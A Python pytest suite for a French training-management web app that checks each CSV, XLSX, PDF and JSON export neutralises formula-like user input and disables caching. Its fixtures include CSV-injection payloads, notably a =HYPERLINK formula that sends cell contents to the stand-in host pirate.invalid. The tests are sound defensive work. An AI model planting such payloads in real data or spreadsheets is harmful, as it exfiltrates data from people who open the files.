"""Issue 13: every download passes hostile values through unharmed and is never cached.

The export routes are read from the URL map (every rule ending in .csv, .xlsx, .pdf or
.json): a new export without an entry in ``EXPORTS`` makes the suite fail. Names, centres,
session titles, themes and skills are typed by people; here they start like spreadsheet
formulas. A CSV shows them with a leading apostrophe, a workbook as text cells (never
formulas), a PDF and the JSON export as they were typed.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from reseau.attendance.models import Attendance, AttendanceStatus
from reseau.catalogue.models import SessionStatus
from reseau.core.database import utcnow
from reseau.core.downloads import FORMULA_START, neutralise
from reseau.core.extensions import db
from reseau.enrolment.models import Enrolment, EnrolmentStatus
from tests.diagnostic.fixtures import add_skill, answer, make_campaign
from tests.factories import (
    make_centre,
    make_coordinator,
    make_referent,
    make_session,
    make_theme,
    make_trainer,
    make_user,
)

EQUALS = '=HYPERLINK("http://pirate.invalid/?"&A1,"Cliquez")'
PLUS = "+SOMME(1;2)"
MINUS = "-2+3"
AT = "@SOMME(A1:A9)"
TAB = "\t=1+1"
RETURN = "\r=1+1"
HOSTILE = (EQUALS, PLUS, MINUS, AT, TAB, RETURN)
# Calendars are not spreadsheets (and public feeds are meant to be cached): not exports here.
EXPORT = re.compile(r"\.(csv|xlsx|pdf|json)$")


class World:
    pass


def build_world() -> World:
    w = World()
    w.centre = make_centre(name=AT)
    w.coordinator = make_coordinator()
    w.referent = make_referent(w.centre)
    w.trainer = make_trainer()
    w.person = make_user(
        centre=w.centre, first_name=EQUALS, last_name=MINUS, email="=1+1@exemple.test"
    )
    w.theme = make_theme(name=PLUS)
    past = (utcnow() - timedelta(days=3)).replace(hour=8, minute=0, second=0, microsecond=0)
    w.closed = make_session(
        starts_at=past,
        title=EQUALS,
        theme=w.theme,
        host_centre=w.centre,
        trainers=[w.trainer],
        status=SessionStatus.CLOSED,
    )
    w.closed.closed_at = utcnow()
    enrolment = Enrolment(session=w.closed, person=w.person, status=EnrolmentStatus.CONFIRMED)
    db.session.add(enrolment)
    db.session.flush()
    db.session.add(
        Attendance(
            seance=w.closed.seances[0],
            person_id=w.person.id,
            enrolment_id=enrolment.id,
            status=AttendanceStatus.PRESENT,
        )
    )
    w.campaign = make_campaign(title=RETURN)
    skill = add_skill(w.campaign, w.theme, TAB)
    from reseau.diagnostic.models import TrainingWish

    answer(w.campaign, w.person, {skill: TrainingWish.PRIORITY})
    from reseau.funding.models import Funder, SessionFunding

    w.funder = Funder(name=PLUS)
    db.session.add(w.funder)
    db.session.flush()
    db.session.add(SessionFunding(session_id=w.closed.id, funder_id=w.funder.id))
    db.session.flush()
    # Issue 18: a complaint in the register, a module's programme sheet.
    from reseau.complaints.models import Complaint, ComplaintCategory
    from reseau.complaints.operations import insert_numbered
    from tests.factories import make_cycle, make_module

    insert_numbered(
        Complaint(
            received_at=w.closed.starts_at,
            category=ComplaintCategory.OTHER,
            session_id=w.closed.id,
            name=EQUALS,
            email="=1+1@exemple.test",
            text=AT,
        )
    )
    w.module = make_module(cycle=make_cycle(theme=w.theme), title=PLUS, content=MINUS)
    from reseau.proof import operations as proof

    w.sheet = proof.seal(
        w.closed.seances[0],
        actor=w.trainer,
        given=proof.SignatureInput(typed_name=w.trainer.full_name),
        certified=True,
    )
    # The rows above were written directly, not through the operations: count them into
    # the bilan's summary rows as `flask rebuild-rollups` would.
    from reseau.attendance import rollups

    rollups.rebuild()
    return w


def _csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [
        cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row
    ]


def check_csv(body: bytes) -> set[str]:
    """Fail on a cell that a spreadsheet would run; return the hostile values found."""
    cells = _csv_cells(body)
    live = [c for c in cells if c.startswith(FORMULA_START) and not re.fullmatch(r"-\d+(,\d+)?", c)]
    assert not live, live
    return {value for value in HOSTILE if neutralise(value) in cells}


def check_xlsx(body: bytes) -> set[str]:
    workbook = load_workbook(io.BytesIO(body))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not formulas, formulas
    return {cell.value for cell in cells if cell.value in HOSTILE}


def check_pdf(body: bytes) -> set[str]:
    assert body.startswith(b"%PDF-")
    return set()  # a PDF runs no formula: only that it is built, and not cached


def check_json(body: bytes) -> set[str]:
    text = json.dumps(json.loads(body), ensure_ascii=False)
    return {value for value in HOSTILE if json.dumps(value, ensure_ascii=False)[1:-1] in text}


# rule -> (who downloads, URL, checker, hostile values that must come through unharmed)
EXPORTS = {
    "/admin/diagnostic/<int:campaign_id>/reponses.csv": (
        "coordinator",
        "/admin/diagnostic/{campaign}/reponses.csv",
        check_csv,
        {EQUALS, MINUS, AT, PLUS, TAB},
    ),
    "/diagnostic/resultats.csv": (
        "coordinator",
        "/diagnostic/resultats.csv?campagne={campaign}",
        check_csv,
        {PLUS, TAB},
    ),
    "/admin/sessions/<int:session_id>/inscrits.csv": (
        "coordinator",
        "/admin/sessions/{closed}/inscrits.csv",
        check_csv,
        {EQUALS, MINUS, AT, "=1+1@exemple.test"},
    ),
    "/bilan/<key>.csv": ("coordinator", "bilan tables", check_csv, {EQUALS, AT}),
    "/bilan.xlsx": ("coordinator", "/bilan.xlsx?annee={year}", check_xlsx, {EQUALS}),
    "/mes-sessions/<int:session_id>/attestations.pdf": (
        "coordinator",
        "/mes-sessions/{closed}/attestations.pdf",
        check_pdf,
        set(),
    ),
    "/mes-sessions/seances/<int:seance_id>/feuille-emargement.pdf": (
        "trainer",
        "/mes-sessions/seances/{seance}/feuille-emargement.pdf",
        check_pdf,
        set(),
    ),
    "/mes-formations/<int:session_id>/attestation.pdf": (
        "person",
        "/mes-formations/{closed}/attestation.pdf",
        check_pdf,
        set(),
    ),
    "/mes-donnees.json": ("person", "/mes-donnees.json", check_json, {EQUALS, MINUS}),
    # The import's template files: no one's data, but through the same helper.
    "/personnes/import/modele.csv": (
        "coordinator",
        "/personnes/import/modele.csv",
        check_csv,
        set(),
    ),
    "/personnes/import/modele.xlsx": (
        "coordinator",
        "/personnes/import/modele.xlsx",
        check_xlsx,
        set(),
    ),
    # Proof (issue 16): PDFs, built and never cached.
    "/feuilles-scellees/<int:sheet_id>.pdf": (
        "trainer",
        "/feuilles-scellees/{sheet}.pdf",
        check_pdf,
        set(),
    ),
    "/mes-formations/<int:session_id>/certificat-realisation.pdf": (
        "person",
        "/mes-formations/{closed}/certificat-realisation.pdf",
        check_pdf,
        set(),
    ),
    "/mes-sessions/<int:session_id>/certificats-realisation.pdf": (
        "coordinator",
        "/mes-sessions/{closed}/certificats-realisation.pdf",
        check_pdf,
        set(),
    ),
    "/admin/financeurs/<int:funder_id>/rapport.xlsx": (
        "coordinator",
        "/admin/financeurs/{funder}/rapport.xlsx?du={year}-01-01&au={year}-12-31",
        check_xlsx,
        {EQUALS},
    ),
    "/admin/reclamations/registre.csv": (
        "coordinator",
        "/admin/reclamations/registre.csv?annee={year}",
        check_csv,
        {EQUALS, AT, "=1+1@exemple.test"},
    ),
    "/admin/reclamations/registre.xlsx": (
        "coordinator",
        "/admin/reclamations/registre.xlsx?annee={year}",
        check_xlsx,
        {EQUALS, AT, "=1+1@exemple.test"},
    ),
    "/catalogue/modules/<int:module_id>/programme.pdf": (
        "coordinator",
        "/catalogue/modules/{module}/programme.pdf",
        check_pdf,
        set(),
    ),
    # Issue 19: adhésions (the centres of a year), volunteer time of a centre, a parcours.
    "/admin/adhesions/<int:year>.csv": (
        "coordinator",
        "/admin/adhesions/{year}.csv",
        check_csv,
        {AT},
    ),
    "/admin/adhesions/<int:year>.xlsx": (
        "coordinator",
        "/admin/adhesions/{year}.xlsx",
        check_xlsx,
        {AT},
    ),
    "/admin/adhesions/<int:year>/appels.pdf": (
        "coordinator",
        "/admin/adhesions/{year}/appels.pdf",
        check_pdf,
        set(),
    ),
    "/admin/adhesions/<int:year>/centres/<int:centre_id>/appel.pdf": (
        "coordinator",
        "/admin/adhesions/{year}/centres/{centre}/appel.pdf",
        check_pdf,
        set(),
    ),
    "/mon-centre/adhesion/<int:year>/appel.pdf": (
        "referent",
        "/mon-centre/adhesion/{year}/appel.pdf",
        check_pdf,
        set(),
    ),
    "/valorisation/<int:year>/centres/<int:centre_id>.csv": (
        "coordinator",
        "/valorisation/{year}/centres/{centre}.csv",
        check_csv,
        set(),  # figures only: the centre is named in the file name
    ),
    "/valorisation/<int:year>/centres/<int:centre_id>.xlsx": (
        "coordinator",
        "/valorisation/{year}/centres/{centre}.xlsx",
        check_xlsx,
        set(),  # figures only: the centre is named in the file name
    ),
    "/mon-parcours.pdf": ("person", "/mon-parcours.pdf", check_pdf, set()),
    "/parcours/<int:person_id>/parcours.pdf": (
        "coordinator",
        "/parcours/{person}/parcours.pdf",
        check_pdf,
        set(),
    ),
    "/parcours/<int:person_id>/formations/<int:session_id>/attestation.pdf": (
        "coordinator",
        "/parcours/{person}/formations/{closed}/attestation.pdf",
        check_pdf,
        set(),
    ),
    "/parcours/<int:person_id>/formations/<int:session_id>/certificat-realisation.pdf": (
        "coordinator",
        "/parcours/{person}/formations/{closed}/certificat-realisation.pdf",
        check_pdf,
        set(),
    ),
    "/admin/financeurs/<int:funder_id>/rapport.pdf": (
        "coordinator",
        "/admin/financeurs/{funder}/rapport.pdf?du={year}-01-01&au={year}-12-31",
        check_pdf,
        set(),
    ),
}
HOSTILE = (*HOSTILE, "=1+1@exemple.test")


def test_every_export_route_is_checked(app):
    exports = {rule.rule for rule in app.url_map.iter_rules() if EXPORT.search(rule.rule)}
    assert exports == EXPORTS.keys(), sorted(exports ^ EXPORTS.keys())


def _bilan_table_urls(client, year: int) -> list[str]:
    page = client.get(f"/bilan?annee={year}").text
    urls = sorted(set(re.findall(r'href="(/bilan/[\w-]+\.csv[^"]*)"', page)))
    assert urls, "the bilan page links no CSV table"
    return [url.replace("&amp;", "&") for url in urls]


@pytest.mark.parametrize("rule", sorted(EXPORTS))
def test_an_export_passes_hostile_values_through_unharmed(client, auth, rule):
    world = build_world()
    db.session.commit()
    who, template, check, expected = EXPORTS[rule]
    assert auth.login(getattr(world, who)).status_code == 303
    values = {
        "campaign": world.campaign.id,
        "closed": world.closed.id,
        "seance": world.closed.seances[0].id,
        "year": world.closed.starts_at.year,
        "sheet": world.sheet.id,
        "funder": world.funder.id,
        "module": world.module.id,
        "centre": world.centre.id,
        "person": world.person.id,
    }
    if template == "bilan tables":
        urls = _bilan_table_urls(client, values["year"])
    else:
        urls = [template.format(**values)]
    found = set()
    for url in urls:
        answer = client.get(url)
        body = answer.get_data()
        assert answer.status_code == 200, url
        found |= check(body)
        assert answer.headers.get("Content-Disposition", "").startswith("attachment"), url
        assert answer.headers.get("Cache-Control") == "no-store", url
    assert expected <= found, f"{rule}: {expected - found} did not come through"


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_like_a_formula_is_quoted(value):
    assert neutralise(value) == "'" + value
    assert neutralise("Marie-Claire") == "Marie-Claire" and neutralise(-3) == -3
